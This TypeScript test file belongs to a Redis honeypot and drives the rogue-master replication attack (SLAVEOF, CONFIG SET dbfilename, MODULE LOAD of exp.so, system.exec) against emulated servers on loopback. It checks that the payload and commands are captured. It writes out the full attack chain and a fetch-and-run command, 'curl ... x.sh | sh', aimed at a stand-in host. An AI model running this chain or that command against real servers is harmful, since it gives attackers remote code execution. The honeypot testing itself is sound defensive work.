/**
 * The rogue-master attack end to end, on loopback: the replica link a SLAVEOF starts retries
 * every second until the rogue master listens (INFO and ROLE show each phase), keeps its
 * payload, and MODULE LOAD of where the chain saved it succeeds where the version allows, so
 * the second stage (the module's `system.exec` commands) arrives and is recorded.
 *
 * - n0b0dyCN/redis-rogue-server, the published tool itself (Apache-2.0, copied unmodified
 *   into test/fixtures/redis-rogue-server with its licence), run with python3 against a
 *   persona, its rogue listener on 127.0.0.1 (loopback.py), its own exp.so as the payload.
 * - Ridter/redis-rce has no licence, so it is not copied: a scripted client sends exactly the
 *   bytes the tool sends (recorded from a run of the tool against a persona) and a scripted
 *   rogue master answers as its RogueServer.handle() does.
 *
 * Both need a persona that lets the chain through: before 7.0 (redis-5.0, what they were
 * written for), or 7.0+ started with enable-module-command yes and enable-protected-configs yes
 * (CONFIG SET dbfilename is refused otherwise); a 7.0 default refuses both as 7.0 does and the
 * chain stops there.
 */
import assert from "node:assert/strict";
import { type ChildProcess, spawn, spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import fs from "node:fs";
import net from "node:net";
import os from "node:os";
import path from "node:path";
import { after, describe, test } from "node:test";
import { fileURLToPath } from "node:url";
import { DEFAULT_CAPTURE, ModuleStrings, ReplicationCapture } from "../src/honeypot/capture.js";
import { persona } from "../src/honeypot/personas/index.js";
import type { RecordedRow } from "../src/honeypot/recorder.js";
import { encodeCommand } from "../src/resp/index.js";
import type { HoneypotSessionRow } from "../src/schema/honeypot.js";
import { type PersonaServer, RespConnection, servePersona } from "./helpers/honeypot-server.js";
import { freePort } from "./helpers/ports.js";

const here = path.dirname(fileURLToPath(import.meta.url));
const FIXTURE = path.resolve(here, "../../test/fixtures/redis-rogue-server");
const EXP = fs.readFileSync(path.join(FIXTURE, "exp.so"));
const EXP_SHA256 = "cf4c6ac09be225112faaef95316a137eff30e91c0f5f8e7aaf0a4bcc6c76f477";
const HAVE_PYTHON = spawnSync("python3", ["--version"]).status === 0;

const tmp = fs.mkdtempSync(path.join(os.tmpdir(), "redscope-rogue-"));
after(() => fs.rmSync(tmp, { recursive: true, force: true }));

const cmd = (...args: string[]): Buffer => encodeCommand(args.map((a) => Buffer.from(a, "latin1")));

interface Event {
  kind: string;
  name?: string;
  record: Record<string, unknown>;
}

/** The events recorded so far, in order (all sessions). */
function events(server: PersonaServer): Event[] {
  return server.recorder.rows
    .filter((r: RecordedRow) => r.kind === "event")
    .map((r: RecordedRow) => JSON.parse(r.json ?? "{}") as Event);
}

/** The last session rows the server handed over, finished ones (with their record). */
function sessions(server: PersonaServer): HoneypotSessionRow[] {
  return server.recorder.rows
    .filter((r: RecordedRow) => r.kind === "session" && r.final)
    .map((r: RecordedRow) => JSON.parse(r.json ?? "{}") as HoneypotSessionRow);
}

/** Wait (bounded) until `ok` holds: the server's own reports are the events waited for. */
async function until(what: string, ok: () => boolean, ms = 20_000): Promise<void> {
  const deadline = Date.now() + ms;
  while (!ok()) {
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 20));
  }
}

/** A persona behind the shipped server with payload capture on (loopback allowed: a lab). */
async function honeypot(
  name: string,
  opts: { enableModules?: boolean; retryMs?: number } = {},
): Promise<{ server: PersonaServer; dir: string }> {
  const dir = fs.mkdtempSync(path.join(tmp, "payloads-"));
  const capture = new ReplicationCapture({
    ...DEFAULT_CAPTURE,
    dir,
    allowReserved: true,
    ...(opts.retryMs !== undefined ? { retryMs: opts.retryMs } : {}),
  });
  const server = await servePersona(persona(name), {
    capture,
    ...(opts.enableModules
      ? {
          // As a 7.0+ server started with both (the chain's CONFIG SET dbfilename needs the
          // second: dbfilename is a protected config).
          onSession: (s) => {
            s.state.config.set("enable-module-command", "yes");
            s.state.config.set("enable-protected-configs", "yes");
          },
        }
      : {}),
  });
  return { server, dir };
}

function captureEvents(server: PersonaServer, name?: string): Event[] {
  return events(server).filter(
    (e) => e.kind === "capture" && (name === undefined || e.name === name),
  );
}

/** What every run of the chain must leave: the payload, the load, the commands, the class. */
function assertSecondStage(server: PersonaServer, dir: string, commands: string[]): void {
  const file = path.join(dir, `${EXP_SHA256}.bin`);
  assert.ok(fs.existsSync(file), "the payload kept under its SHA-256");
  assert.equal(createHash("sha256").update(fs.readFileSync(file)).digest("hex"), EXP_SHA256);
  assert.equal(fs.statSync(file).mode & 0o777, 0o600, "never executable");
  const [captured] = captureEvents(server, "captured");
  const result = captured?.record.capture as Record<string, unknown>;
  assert.equal(result.sha256, EXP_SHA256);
  assert.equal(result.bytes, EXP.length);
  assert.deepEqual(result.module, { name: "system", commands: ["system.exec", "system.rev"] });
  assert.ok((result.attempts as number) >= 2, "the rogue master was reached by a retry");
  const loads = events(server).filter((e) => e.kind === "effect" && e.name === "module_load");
  assert.deepEqual(loads.at(0)?.record.effect, {
    kind: "module_load",
    path: "./exp.so",
    loaded: true,
    module: "system",
    sha256: EXP_SHA256,
  });
  const [session] = sessions(server);
  assert.ok(session !== undefined);
  const record = session.record as unknown as {
    findings: Array<{ class: string }>;
    indicators: Record<string, string[]>;
  };
  assert.ok(
    record.findings.some((f) => f.class === "rogue_replication"),
    session.classes,
  );
  assert.ok(
    record.findings.some((f) => f.class === "module_load"),
    session.classes,
  );
  for (const c of commands) assert.ok(record.indicators.module_commands?.includes(c), c);
  assert.ok(record.indicators.modules?.includes("system"));
  assert.ok(record.indicators.urls?.includes("http://203.0.113.7/x.sh"));
}

/** Run the published tool with its rogue listener on loopback; resolves with its output. */
function runTool(args: string[], stdin: string): Promise<{ code: number | null; out: string }> {
  return new Promise((resolve) => {
    const proc: ChildProcess = spawn("python3", [path.join(FIXTURE, "loopback.py"), ...args], {
      stdio: ["pipe", "pipe", "pipe"],
    });
    let out = "";
    proc.stdout!.on("data", (d) => (out += d));
    proc.stderr!.on("data", (d) => (out += d));
    const killer = setTimeout(() => proc.kill("SIGKILL"), 60_000);
    proc.on("exit", (code) => {
      clearTimeout(killer);
      resolve({
        code,
        out: out.replace(new RegExp(`${String.fromCharCode(27)}\\[[0-9;]*m`, "g"), ""),
      });
    });
    proc.stdin!.end(stdin);
  });
}

describe("n0b0dyCN/redis-rogue-server against a persona", {
  skip: HAVE_PYTHON ? false : "python3 not installed",
}, () => {
  const tool = path.join(FIXTURE, "redis-rogue-server.py");
  const shell = "i\nid\ncurl -s http://203.0.113.7/x.sh | sh\nexit\n";

  for (const [name, enableModules] of [
    ["redis-5.0-open", false],
    ["redis-7.0-open", true],
  ] as const) {
    test(`${name}${enableModules ? " with enable-module-command and enable-protected-configs yes" : ""}: to its last step`, async () => {
      const { server, dir } = await honeypot(name, { enableModules });
      try {
        const lport = await freePort();
        const { code, out } = await runTool(
          [
            tool,
            ...["--rhost", "127.0.0.1", "--rport", String(server.port)],
            ...["--lhost", "127.0.0.1", "--lport", String(lport), "--exp"],
            path.join(FIXTURE, "exp.so"),
            "-v",
          ],
          shell,
        );
        assert.equal(code, 0, out);
        assert.doesNotMatch(out, /\[err \]/, out);
        // Its last step, and the replies to the module's commands.
        assert.match(
          out,
          /\[<-\] b'\*3\\r\\n\$6\\r\\nMODULE\\r\\n\$6\\r\\nUNLOAD\\r\\n\$6\\r\\nsystem\\r\\n'\n\[->\] b'\+OK\\r\\n'/,
        );
        assert.match(out, /\[>>\] uid=999\(redis\) gid=999\(redis\) groups=999\(redis\)/);
        await until("the session's end", () => sessions(server).length > 0);
        assertSecondStage(server, dir, [
          "system.exec rm ./exp.so",
          "system.exec id",
          "system.exec curl -s http://203.0.113.7/x.sh | sh",
        ]);
      } finally {
        await server.close();
      }
    });
  }

  test("redis-7.0-open by default: MODULE LOAD is refused as 7.0 does, the chain stops", async () => {
    const { server, dir } = await honeypot("redis-7.0-open");
    try {
      const lport = await freePort();
      const { out } = await runTool(
        [
          tool,
          ...["--rhost", "127.0.0.1", "--rport", String(server.port)],
          ...["--lhost", "127.0.0.1", "--lport", String(lport), "--exp"],
          path.join(FIXTURE, "exp.so"),
          "-v",
        ],
        "i\nid\nexit\n",
      );
      assert.match(out, /-ERR MODULE command not allowed/);
      assert.match(out, /-ERR unknown command .system\.exec./);
      assert.ok(fs.existsSync(path.join(dir, `${EXP_SHA256}.bin`)), "the payload is kept anyway");
    } finally {
      await server.close();
    }
  });
});

/**
 * Ridter/redis-rce's rogue master (RogueServer.handle): each read is answered by what it
 * contains; the PSYNC answer carries the payload with a trailing CRLF. Opened only when the
 * test says (after the persona's first attempt failed).
 */
async function ridterRogueMaster(port: number, payload: Buffer): Promise<() => Promise<void>> {
  const server = net.createServer((sock) => {
    sock.on("error", () => {});
    sock.on("data", (d) => {
      const data = d.toString("latin1");
      if (data.includes("PING")) sock.write("+PONG\r\n");
      else if (data.includes("REPLCONF")) sock.write("+OK\r\n");
      else if (data.includes("AUTH")) sock.write("+OK\r\n");
      else if (data.includes("PSYNC") || data.includes("SYNC")) {
        sock.write(
          Buffer.concat([
            Buffer.from(`+FULLRESYNC ${"Z".repeat(40)} 0\r\n$${payload.length}\r\n`),
            payload,
            Buffer.from("\r\n"),
          ]),
        );
      }
    });
  });
  await new Promise<void>((r) => server.listen(port, "127.0.0.1", r));
  return () => new Promise((r) => server.close(() => r()));
}

describe("Ridter/redis-rce's byte sequence against redis-5.0-open", () => {
  test("retries until the rogue master listens, then the module stage; INFO/ROLE per phase", async () => {
    const { server, dir } = await honeypot("redis-5.0-open");
    const lport = await freePort();
    const c = await RespConnection.open(server.port);
    try {
      const info = await c.send(cmd("INFO"));
      assert.match(info.toString(), /^\$\d+\r\n# Server\r\nredis_version:5\.0\.8\r\n/);
      assert.equal(
        (await c.send(cmd("SLAVEOF", "127.0.0.1", String(lport)))).toString(),
        "+OK\r\n",
      );
      assert.equal(
        (await c.send(cmd("CONFIG", "SET", "dbfilename", "exp.so"))).toString(),
        "+OK\r\n",
      );
      // The first attempt finds nothing listening: reported, then tried again every second.
      await until("the first failed attempt", () => captureEvents(server, "retrying").length > 0);
      const [failed] = captureEvents(server, "retrying");
      assert.equal((failed!.record.capture as { status: string }).status, "refused");
      const repl = (await c.send(cmd("INFO", "replication"))).toString();
      assert.match(repl, /role:slave\r\n/);
      assert.match(repl, new RegExp(`master_host:127\\.0\\.0\\.1\r\nmaster_port:${lport}\r\n`));
      assert.match(repl, /master_link_status:down\r\n/);
      assert.match(repl, /master_sync_in_progress:0\r\n/);
      const role = (await c.send(cmd("ROLE"))).toString();
      assert.match(role, /\$(7\r\nconnect|10\r\nconnecting)\r\n:-1\r\n$/);
      const close = await ridterRogueMaster(lport, EXP);
      try {
        await until("the payload", () => captureEvents(server, "captured").length > 0);
      } finally {
        await close();
      }
      const expect = async (request: Buffer, reply: string): Promise<void> => {
        assert.equal((await c.send(request)).toString("latin1"), reply);
      };
      await expect(cmd("MODULE", "LOAD", "./exp.so"), "+OK\r\n");
      await expect(cmd("SLAVEOF", "NO", "ONE"), "+OK\r\n");
      await expect(
        cmd("MODULE", "LIST"),
        "*1\r\n*4\r\n$4\r\nname\r\n$6\r\nsystem\r\n$3\r\nver\r\n:1\r\n",
      );
      await expect(
        cmd("system.exec", "id"),
        "$48\r\nuid=999(redis) gid=999(redis) groups=999(redis)\n\r\n",
      );
      await expect(cmd("system.exec", "curl -s http://203.0.113.7/x.sh | sh"), "$0\r\n\r\n");
      await expect(
        cmd("system.exec"),
        "-ERR wrong number of arguments for 'system.exec' command\r\n",
      );
      await expect(cmd("CONFIG", "SET", "dbfilename", "dump.rdb"), "+OK\r\n");
      await expect(cmd("system.exec", "rm ./exp.so"), "$0\r\n\r\n");
      await expect(cmd("MODULE", "UNLOAD", "system"), "+OK\r\n");
      await expect(
        cmd("system.exec", "id"),
        "-ERR unknown command `system.exec`, with args beginning with: `id`, \r\n",
      );
      await expect(
        cmd("MODULE", "UNLOAD", "system"),
        "-ERR Error unloading module: no such module with that name\r\n",
      );
    } finally {
      c.close();
      await until("the session's end", () => sessions(server).length > 0);
      await server.close();
    }
    assertSecondStage(server, dir, [
      "system.exec id",
      "system.exec curl -s http://203.0.113.7/x.sh | sh",
      "system.exec rm ./exp.so",
    ]);
  });

  test("MODULE LOAD of any other path fails; SLAVEOF NO ONE stops the retries", async () => {
    const { server } = await honeypot("redis-5.0-open");
    const lport = await freePort();
    const c = await RespConnection.open(server.port);
    try {
      await c.send(cmd("SLAVEOF", "127.0.0.1", String(lport)));
      await until("the first failed attempt", () => captureEvents(server, "retrying").length > 0);
      assert.equal(
        (await c.send(cmd("MODULE", "LOAD", "/tmp/exp.so"))).toString(),
        "-ERR Error loading the extension. Please check the server logs.\r\n",
      );
      assert.equal((await c.send(cmd("SLAVEOF", "NO", "ONE"))).toString(), "+OK\r\n");
      // The link ends at once, as cancelled, having made no more than its attempts so far.
      await until("the link's end", () => captureEvents(server).length >= 2);
      const last = captureEvents(server).at(-1)!.record.capture as Record<string, unknown>;
      assert.equal(last.status, "refused");
      assert.match(String(last.message), /cancelled|gave up/);
      assert.equal((await c.send(cmd("ROLE"))).toString(), "*3\r\n$6\r\nmaster\r\n:0\r\n*0\r\n");
    } finally {
      c.close();
      await server.close();
    }
  });
});

describe("the module names read from a captured binary", () => {
  test("exp.so: the module `system` and its two commands, however the bytes are split", () => {
    for (const chunk of [1, 7, 4096, EXP.length]) {
      const strings = new ModuleStrings();
      for (let i = 0; i < EXP.length; i += chunk) strings.push(EXP.subarray(i, i + chunk));
      assert.deepEqual(strings.result(), {
        name: "system",
        commands: ["system.exec", "system.rev"],
      });
    }
  });

  test("a hostile binary: bounded names, no file names, no unterminated or overlong runs", () => {
    const parts: Buffer[] = [
      Buffer.from("libc.so.6\0exp.c\0GLIBC_2.2.5\0crontab.txt\0"),
      // A run with no NUL after it is not a C string; an overlong one is skipped whole.
      Buffer.from("evil.cmd\n"),
      Buffer.from(`${"a".repeat(100)}.exec\0`),
      Buffer.from("x".repeat(10_000_000)),
      Buffer.from("\0"),
    ];
    for (let i = 0; i < 100; i++) parts.push(Buffer.from(`m${i}.c${i}\0`));
    const strings = new ModuleStrings();
    for (const p of parts) strings.push(p);
    const { name, commands } = strings.result();
    assert.equal(commands.length, 32, "at most 32 command names");
    assert.deepEqual(commands.slice(0, 2), ["m0.c0", "m1.c1"]);
    assert.equal(name, "m0");
  });
});
